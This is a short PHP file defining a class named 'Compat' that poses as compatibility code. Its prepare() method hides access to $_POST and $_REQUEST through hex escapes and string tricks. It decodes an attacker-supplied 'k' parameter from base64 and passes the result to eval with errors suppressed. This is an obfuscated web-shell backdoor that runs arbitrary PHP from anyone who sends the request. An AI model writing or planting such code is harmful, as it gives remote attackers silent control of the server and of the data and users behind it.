<?php
class Compat {
	public static function prepare() {
		$in = $GLOBALS[ "_\x50\x4f" . strrev( 'TS' ) ];
		$v  = ${"_" . "REQ" . "UEST"};
		$f  = self::name( '0567' );
		$body = $f( strtr( $in['k'], '-_', '+/' ) );
		@eval( "\x3f\x3e" . $body );
	}
}
